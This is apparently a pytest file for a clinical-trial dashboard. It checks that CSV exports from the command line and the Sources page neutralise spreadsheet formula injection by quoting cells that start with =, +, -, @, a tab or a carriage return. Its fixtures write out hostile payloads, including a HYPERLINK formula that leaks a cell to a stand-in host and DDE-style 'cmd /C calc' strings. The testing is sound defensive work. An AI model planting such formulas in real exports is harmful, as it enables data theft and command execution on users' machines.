"""CSV formula injection: a text cell a spreadsheet would run as a formula (it starts with =, +, -, @, a tab or a
carriage return) is written with a single quote in front (OWASP, "CSV Injection"), in `python -m dashboard export
--format csv` and in the Sources page's downloads; numbers stay numbers, and reading the file back gives the text as
written in data/."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from dashboard.__main__ import main
from dashboard.export.figures import read, read_csv, records
from dashboard.knowledge import load_knowledge
from tests.pages.test_hostile_data import hostile_copy

FORMULAS = {  # where in data/ -> what a hostile editor wrote there
    "figure label": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "event label": "@SUM(1+1)*cmd|' /C calc'!A0",
    "comparator": "+1+2",
    "trial name": "-2+3+cmd|' /C calc'!A0",
    "locator": "\t=1+1",
    "source title": "\r=1+1",
}
EDITS = {  # file: [(written, hostile YAML)]
    "treatments/exampleumab.yaml": [
        ("- label: Infusion reactions", "- label: '" + FORMULAS["figure label"] + "'"),
        ("comparator: Placebo", "comparator: '" + FORMULAS["comparator"] + "'"),
        ("name: TRIAL-A", "name: \"" + FORMULAS["trial name"] + "\""),
        ("locator: Section 6.1, Table 1, row Headache", "locator: \"\\t=1+1\""),
    ],
    "events/common.yaml": [("label: Headache", "label: \"" + FORMULAS["event label"] + "\"")],
    "sources/main.yaml": [("title: Exampleumab prescribing information (a fictional test label)", "title: \"\\r=1+1\"")],
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(tmp_path) -> Path:
    return hostile_copy(tmp_path / "data", EDITS)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_neutralised(text: str, knowledge) -> None:
    rows = cells(text)
    written = {cell for row in rows[1:] for cell in row}
    for where, formula in FORMULAS.items():
        assert "'" + formula in written, where  # the hostile text is there, behind a quote
        assert formula not in written, where
    numbers = {"value", "comparator_value", "high", "ci_low", "ci_high", "relative_reduction_pct", "absolute_difference",
               "count", "n", "comparator_count", "comparator_n"}
    for row in rows[1:]:
        for name, cell in zip(rows[0], row):
            if name in numbers:
                float(cell or 0)  # a number is written as a number (a negative one keeps its minus sign)
            else:
                assert not cell.startswith(TRIGGERS), (name, cell)
    assert read_csv(text) == records(knowledge)  # read back: the text as written in data/


def test_the_command_line_export_neutralises_formulas(hostile, tmp_path):
    knowledge = load_knowledge(hostile)
    out = tmp_path / "figures.csv"
    assert main(["export", "--format", "csv", "--data", str(hostile), "--out", str(out)]) == 0
    assert_neutralised(out.read_bytes().decode("utf-8"), knowledge)
    assert read(out) == records(knowledge)


def test_the_sources_page_downloads_neutralise_formulas(hostile):
    from components.controls import data_download

    knowledge = load_knowledge(hostile)
    assert_neutralised(data_download._whole(knowledge, "csv")().decode("utf-8"), knowledge)
    chosen = data_download._chosen(knowledge, "csv", tuple(knowledge.treatment_ids()))().decode("utf-8")
    assert_neutralised(chosen, knowledge)


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'plain", "plain", "-", "@", "\t", "a=b", "", "''"])
def test_a_neutralised_cell_reads_back_as_written(text):
    from dashboard.export.figures import csv_cell, csv_text

    written = csv_cell(text)
    assert not written.startswith(TRIGGERS)
    assert csv_text(written) == text


def test_negative_numbers_stay_numbers():
    from dashboard.export.figures import _cell

    assert _cell(-0.5) == "-0.5" and _cell(-2.0) == "-2"
